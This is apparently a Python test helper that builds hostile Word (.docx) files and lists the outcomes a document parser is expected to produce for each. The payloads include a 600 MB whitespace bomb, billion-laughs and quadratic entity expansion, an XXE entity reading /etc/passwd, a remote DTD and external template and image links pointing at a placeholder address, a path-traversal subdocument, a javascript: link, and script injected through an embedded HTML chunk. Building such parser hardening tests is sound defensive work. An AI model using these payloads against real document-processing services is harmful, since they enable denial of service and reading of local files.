"""Build hostile Word files part by part."""

import io
import struct
import zipfile

from support.hostile_files import ADDRESS, Accepted, Hostile, Refused

SAID = "The ministers met in Trieste and agreed on data free flow with trust."
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def paragraph(words: str = SAID, style: str = "") -> str:
    """A paragraph of a document's body."""
    return f"<w:p>{style}<w:r><w:t>{words}</w:t></w:r></w:p>"


def body(inside: str, doctype: str = "") -> bytes:
    """The main part, with this in its body."""
    return f'{_HEAD}{doctype}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{inside}</w:body></w:document>'.encode()


def _relations(*relations: tuple[str, str, str]) -> bytes:
    each = "".join(
        f'<Relationship Id="r{i}" Type="{kind}" Target="{target}" {more}/>'
        for i, (kind, target, more) in enumerate(relations)
    )
    return f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">{each}</Relationships>'.encode()


def parts(main: bytes | None = None, **more: bytes) -> dict[str, bytes]:
    """The parts of a file by name; a test adds or replaces what it wants wrong."""
    overrides = f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/>'
    if "word/styles.xml" in more:
        kind = _MAIN.replace("document.main", "styles")
        overrides += f'<Override PartName="/word/styles.xml" ContentType="{kind}"/>'
    types = (
        f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        f'"application/xml"/><Default Extension="html" ContentType="text/html"/>{overrides}</Types>'
    )
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": _relations((f"{_R}/officeDocument", "word/document.xml", "")),
        "word/document.xml": body(paragraph()) if main is None else main,
        **more,
    }


def zipped(members: dict[str, bytes]) -> bytes:
    """Members packed into one file."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return made.getvalue()


def word(main: bytes | None = None, **more: bytes) -> bytes:
    """A Word file with this main part and these further parts."""
    return zipped(parts(main, **more))


def good() -> bytes:
    """A file in which nothing is wrong."""
    return word()


def space_bomb(megabytes: int = 600) -> bytes:
    """A main part that unpacks to white space without end."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        for name, content in parts().items():
            if name != "word/document.xml":
                packed.writestr(name, content)
        before = body(paragraph()).removesuffix(b"</w:body></w:document>")
        with packed.open("word/document.xml", "w", force_zip64=True) as main:
            main.write(before)
            for _ in range(megabytes):
                main.write(b" " * 1_000_000)
            main.write(b"</w:body></w:document>")
    return made.getvalue()


def encrypted() -> bytes:
    """Return the file that Office writes for a document with a password: OLE, EncryptionInfo and EncryptedPackage."""
    free, end, table = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    head += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0) + struct.pack("<109I", 0, *[free] * 108)
    sectors = struct.pack("<128I", table, end, *range(3, 11), end, *range(12, 20), end, *[free] * 108)

    def entry(name: str, kind: int, start: int, size: int, child: int, right: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        links = struct.pack("<III", free, right, child)
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + links
            + bytes(36)
            + struct.pack("<IQ", start, size)
        )

    folder = entry("Root Entry", 5, end, 0, 1, free) + entry("EncryptionInfo", 2, 2, 4608, free, 2)
    folder += entry("EncryptedPackage", 2, 11, 4608, free, free) + bytes(128)
    return head + sectors + folder + bytes(range(256)) * 18 * 2


_LAUGHS = "<!ENTITY l0 'lol'>" + "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 12))
_EXTERNAL = "<!ENTITY secret SYSTEM 'file:///etc/passwd'>"
_REMOTE = f"<!ENTITY % remote SYSTEM '{ADDRESS}/a.dtd'>%remote;"
_OUT = 'TargetMode="External"'


def _doctype(entities: str) -> str:
    return f"<!DOCTYPE w:document [{entities}]>"


def _leading_out() -> bytes:
    """Everything that leads out of the file: template, pictures, frames, linked text."""
    relations = _relations(
        (f"{_R}/attachedTemplate", f"{ADDRESS}/template.dotm", _OUT),
        (f"{_R}/image", f"{ADDRESS}/pixel.png", _OUT),
        (f"{_R}/aFChunk", f"{ADDRESS}/chunk.html", _OUT),
        (f"{_R}/frame", "file:///etc/passwd", _OUT),
        (f"{_R}/subDocument", "../../../../etc/passwd", ""),
        (f"{_R}/hyperlink", "javascript:alert(1)", _OUT),
    )
    inside = paragraph() + '<w:altChunk r:id="r2"/><w:subDoc r:id="r4"/>' + paragraph("The annex was welcomed.")
    linked = "<w:r><w:t>linked</w:t></w:r>"
    inside += f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">{linked}</w:fldSimple></w:p>'
    return word(body(inside), **{"word/_rels/document.xml.rels": relations})


def _chunk() -> bytes:
    relations = _relations((f"{_R}/aFChunk", "chunk.html", ""))
    page = f"<html><script>alert('owned')</script><img src='{ADDRESS}/a.png'></html>".encode()
    return word(
        body(paragraph() + '<w:altChunk r:id="r0"/>'),
        **{"word/_rels/document.xml.rels": relations, "word/chunk.html": page},
    )


def style_loop() -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>'
        for a, b in (("A", "B"), ("B", "A"))
    )
    return word(
        body(paragraph(style='<w:pPr><w:pStyle w:val="A"/></w:pPr>')),
        **{
            "word/styles.xml": f'{_HEAD}<w:styles xmlns:w="{_W}">{styles}</w:styles>'.encode(),
            "word/_rels/document.xml.rels": _relations((f"{_R}/styles", "styles.xml", "")),
        },
    )


def _unseen() -> bytes:
    run = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>words nobody sees</w:t></w:r>"
    deleted = '<w:del w:id="1" w:author="a"><w:r><w:delText>words taken out</w:delText></w:r></w:del>'
    added = '<w:ins w:id="2" w:author="a"><w:r><w:t>They parted as friends.</w:t></w:r></w:ins>'
    return word(body(f"{paragraph()}<w:p>{run}{deleted}{added}</w:p>"))


def _deep_table(depth: int) -> bytes:
    return word(body("<w:tbl><w:tr><w:tc>" * depth + paragraph() + "</w:tc></w:tr></w:tbl>" * depth))


WORD = (
    Hostile("an empty Word file", "empty.docx", b"", Refused("empty")),
    Hostile("text under a Word file's name", "text.docx", b"They met in Trieste.\n" * 9, Refused("")),
    Hostile("a cut Word file", "cut.docx", lambda: good()[:-200], Refused("")),
    Hostile("a Word file with a password", "secret.docx", encrypted, Refused("with a password")),
    Hostile(
        "a workbook under a Word file's name",
        "book.docx",
        lambda: zipped({"xl/workbook.xml": b"<a/>", "[Content_Types].xml": b"<a/>"}),
        Refused(""),
    ),
    Hostile("a zip under a Word file's name", "zip.docx", lambda: zipped({"talks.txt": b"They met."}), Refused("")),
    Hostile(
        "no main part",
        "headless.docx",
        lambda: zipped({k: v for k, v in parts().items() if k != "word/document.xml"}),
        Refused(""),
    ),
    Hostile("a blank Word file", "blank.docx", lambda: word(body("<w:p/>")), Refused("")),
    Hostile("broken XML", "broken.docx", lambda: word(body(paragraph())[:-30]), Refused("")),
    Hostile("600 MB of white space in a Word file", "spaces.docx", space_bomb, Refused("unpack")),
    Hostile(
        "a billion laughs in a Word file",
        "laughs.docx",
        lambda: word(body(paragraph("&l11;"), _doctype(_LAUGHS))),
        Refused(""),
    ),
    Hostile(
        "quadratic entities in a Word file",
        "quadratic.docx",
        lambda: word(body(paragraph("&a;" * 20_000), _doctype(f"<!ENTITY a '{'a' * 100_000}'>"))),
        Refused(""),
    ),
    Hostile(
        "an external entity in a Word file",
        "external.docx",
        lambda: word(body(paragraph() + paragraph("&secret;"), _doctype(_EXTERNAL))),
        Refused(""),
    ),
    Hostile("an external DTD", "dtd.docx", lambda: word(body(paragraph(), _doctype(_REMOTE))), Refused("")),
    Hostile("tables in tables in Word", "tables.docx", lambda: _deep_table(3_000), Refused("")),
    Hostile(
        "what leads out of a Word file",
        "out.docx",
        _leading_out,
        Accepted((SAID, "The annex was welcomed."), ("root:", "alert")),
    ),
    Hostile("a page inside a Word file", "chunk.docx", _chunk, Accepted((SAID,), ("owned",))),
    Hostile("styles in a circle", "styles.docx", style_loop, Accepted((SAID,))),
    Hostile(
        "deleted and hidden words",
        "unseen.docx",
        _unseen,
        Accepted((SAID, "They parted as friends."), ("taken out", "nobody sees")),
    ),
)
